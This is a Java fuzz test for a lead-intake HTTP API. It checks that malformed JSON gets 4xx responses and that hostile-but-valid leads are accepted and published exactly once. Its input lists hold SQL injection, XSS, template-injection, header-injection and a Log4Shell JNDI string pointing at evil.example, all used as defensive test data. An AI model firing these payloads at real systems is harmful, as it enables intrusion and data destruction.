package io.leadflow.intake.lead;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.function.Function;

import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.apache.kafka.common.TopicPartition;
import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;

import io.leadflow.contracts.Json;
import io.leadflow.contracts.LeadReceived;
import io.leadflow.localstack.LocalStackTestResource;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;

/**
 * A seeded fuzz run in two labelled halves: malformed requests must get a 4xx problem and publish nothing;
 * hostile-but-valid leads must get 202 and exactly one event each, with their exact characters. Zero 5xx.
 * The module build runs 400 requests (a loaded 2-core machine takes ~0.15 s a request);
 * {@code -Dleadflow.fuzz.requests=2000} or {@code 10000} for the longer runs, with the same seed.
 */
@QuarkusTest
@QuarkusTestResource(value = LocalStackTestResource.class, initArgs = @ResourceArg(name = "components", value = "kafka,postgres"))
class EdgeFuzzTest extends PublishingTest {

    private static final long SEED = 20261203L;
    private static final int REQUESTS = Integer.getInteger("leadflow.fuzz.requests", 400);
    private static final ObjectMapper JSON = Json.newMapper();

    private static final List<String> HOSTILE_NAMES = List.of("Robert'); DROP TABLE leads;--", "<script>alert(1)</script>",
            "Zoë Ñúñez-Łukasiewicz", "王小明", "山田 太郎", "😀 Smiley 👩‍👩‍👧", "O'Connor", "Cher", "D'Angelo",
            "${jndi:ldap://evil.example/a}", "{{7*7}}", "Ana María", "x".repeat(100), "' OR '1'='1", "محمد", "Ωμέγα");
    private static final List<String> MESSAGES = List.of("Do you allow pets? 🐶", "'; DELETE FROM touches; --",
            "<img src=x onerror=alert(1)>", "Ich möchte ein Haus mit Garten.", "我想要三个卧室", "m".repeat(2000),
            "Line one\nLine two\ttabbed", "%00%0d%0a header injection?");
    private static final List<String> PHONES = List.of("+14155550123", "(212) 555-0100", "+44 20 7946 0958",
            "+1 312 555 0175", "415.555.0199");

    @Test
    void shouldAnswerMalformedRequestsWith4xxProblemsAndHostileValidLeadsWith202AndExactlyOneEventEach() throws Exception {
        Random random = new Random(SEED);
        List<Function<Random, byte[]>> malformed = malformedGenerators();
        Map<TopicPartition, Long> before = topic.endOffsets();
        Map<String, Integer> statuses = new TreeMap<>();
        Map<String, ObjectNode> accepted = new HashMap<>();
        int fivexx = 0;

        for (int i = 0; i < REQUESTS; i++) {
            boolean hostileValid = i % 2 == 1;
            ObjectNode lead = hostileValid ? hostileLead(random) : null;
            byte[] body = hostileValid ? JSON.writeValueAsBytes(lead) : malformed.get(random.nextInt(malformed.size())).apply(random);
            Response response = given().auth().oauth2(LeadResourceTest.WEBSITE_KEY)
                    .contentType("application/json; charset=utf-8").body(body).post("/api/leads");
            int status = response.statusCode();
            String half = hostileValid ? "hostile-valid" : "malformed";
            statuses.merge(half + " " + status, 1, Integer::sum);
            fivexx += status >= 500 ? 1 : 0;
            if (hostileValid) {
                assertThat(status).as("hostile-valid request %d: %s", i, lead).isEqualTo(202);
                accepted.put(response.path("leadId"), lead);
            } else {
                assertThat(status).as("malformed request %d: %s", i, preview(body)).isBetween(400, 499);
                assertThat(response.contentType()).startsWith("application/problem+json");
            }
        }

        List<ConsumerRecord<String, String>> records = topic.recordsSince(before);
        System.out.printf("Edge fuzz (seed %d, %d requests): %s; 5xx: %d; events: %d%n", SEED, REQUESTS, statuses, fivexx,
                records.size());
        assertThat(fivexx).isZero();
        assertThat(records).extracting(ConsumerRecord::key).doesNotHaveDuplicates()
                .containsExactlyInAnyOrderElementsOf(accepted.keySet());
        for (ConsumerRecord<String, String> record : records) {
            LeadReceived event = JSON.readValue(record.value(), LeadReceived.class);
            ObjectNode sent = accepted.get(record.key());
            assertThat(event.contact().fullName()).isEqualTo(sent.get("fullName").asText());
            assertThat(event.message()).isEqualTo(sent.get("message").asText());
            assertThat(event.interest().community()).isEqualTo(sent.get("interest").get("community").asText());
        }
    }

    private static ObjectNode hostileLead(Random random) {
        ObjectNode lead = JSON.createObjectNode();
        lead.put("fullName", pick(random, HOSTILE_NAMES));
        lead.put("email", "lead" + random.nextInt(1_000_000) + "@example.com");
        lead.put("phone", pick(random, PHONES));
        lead.put("message", pick(random, MESSAGES));
        String initial = Character.toString(pick(random, HOSTILE_NAMES).codePointAt(0));
        lead.putObject("interest").put("community", initial + " Ridge ✓");
        return lead;
    }

    private static List<Function<Random, byte[]>> malformedGenerators() {
        String valid = "{\"fullName\": \"Maria Lopez\", \"email\": \"maria@example.com\", \"phone\": \"+14155550123\"}";
        List<Function<Random, byte[]>> generators = new ArrayList<>();
        generators.add(r -> utf8(valid.substring(0, 1 + r.nextInt(valid.length() - 2)))); // cut short
        generators.add(r -> utf8(valid.replace(":", r.nextBoolean() ? "=" : ""))); // broken syntax
        generators.add(r -> utf8(valid + " {\"again\": true}")); // trailing content
        generators.add(r -> utf8("{\"fullName\": \"Maria\", \"fullName\": \"Ana\", \"email\": \"a@example.com\"}")); // duplicate key
        generators.add(r -> utf8(pick(r, List.of("{\"fullName\": {\"first\": \"M\"}, \"email\": \"m@example.com\"}",
                "{\"fullName\": \"M\", \"email\": \"m@example.com\", \"interest\": [1, 2]}",
                "{\"fullName\": \"M\", \"email\": \"m@example.com\", \"test\": \"maybe\"}",
                "{\"fullName\": \"M\", \"email\": \"m@example.com\", \"consent\": {\"sms\": \"perhaps\"}}",
                "{\"fullName\": \"M\", \"email\": \"m@example.com\", \"utm\": \"google\"}",
                "[\"fullName\", \"M\"]", "\"just a string\"", "null", "42")))); // wrong types
        generators.add(r -> {
            byte[] body = utf8(valid);
            body[14] = (byte) 0xC3; // an invalid UTF-8 sequence inside the name
            body[15] = (byte) 0x28;
            return body;
        });
        generators.add(r -> utf8("{\"fullName\": \"Ma" + (char) (1 + r.nextInt(31)) + "ria\", \"email\": \"m@example.com\"}")); // raw control character
        generators.add(r -> utf8("{\"fullName\": \"Maria\", \"phone\": \"" + pick(r, List.of("+1 000 000 0000", "12",
                "9".repeat(40), "call me", "++44", "+999 123 456")) + "\"}")); // absurd phone
        generators.add(r -> utf8("{\"fullName\": \"" + "x".repeat(70_000 + r.nextInt(10_000)) + "\", \"email\": \"m@example.com\"}")); // huge
        generators.add(r -> utf8("{\"fullName\": \"" + "x".repeat(201 + r.nextInt(200)) + "\", \"email\": \"m@example.com\"}")); // over a field's maximum
        generators.add(r -> utf8("{\"fullName\": \"Maria\", \"email\": \"" + pick(r, List.of("maria@@example.com",
                "maria", "maria@example", "ma ria@example.com", "@example.com")) + "\"}")); // bad email
        generators.add(r -> utf8("{\"message\": \"no name, no contact\"}")); // missing required fields
        generators.add(r -> utf8("")); // empty body
        return generators;
    }

    private static <T> T pick(Random random, List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private static byte[] utf8(String value) {
        return value.getBytes(StandardCharsets.UTF_8);
    }

    private static String preview(byte[] body) {
        String text = new String(body, StandardCharsets.UTF_8);
        return text.length() > 200 ? text.substring(0, 200) + "…" : text;
    }
}
